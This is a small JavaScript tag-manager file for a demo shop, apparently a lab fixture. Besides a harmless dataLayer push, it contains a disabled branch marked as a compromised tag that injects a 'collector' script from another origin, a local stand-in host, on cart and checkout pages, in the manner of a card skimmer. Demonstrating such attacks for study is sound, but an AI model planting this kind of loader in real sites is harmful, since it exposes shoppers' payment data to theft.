/* Demo Outfitters' tag manager: marketing tags loaded on every page. */
(function () {
  "use strict";
  var INJECT = false;
  window.dataLayer = window.dataLayer || [];
  window.dataLayer.push({ event: "tags.loaded", page: location.pathname });
  if (INJECT && /^\/(cart|checkout)/.test(location.pathname)) {
    // A compromised tag: it pulls a "collector" from another origin at run time.
    var host = location.hostname === "localhost" ? "127.0.0.1" : "localhost";
    var s = document.createElement("script");
    s.src = location.protocol + "//" + host + ":" + location.port + "/static/collect.js";
    s.async = true;
    document.head.appendChild(s);
  }
})();
